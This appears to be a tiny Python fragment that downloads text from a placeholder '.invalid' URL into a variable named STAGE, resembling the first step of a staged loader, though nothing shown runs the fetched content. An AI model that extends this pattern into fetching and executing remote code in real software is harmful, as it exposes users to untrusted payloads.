import requests

STAGE = requests.get("https://raw.githubusercontent.invalid/demo/main/stage").text
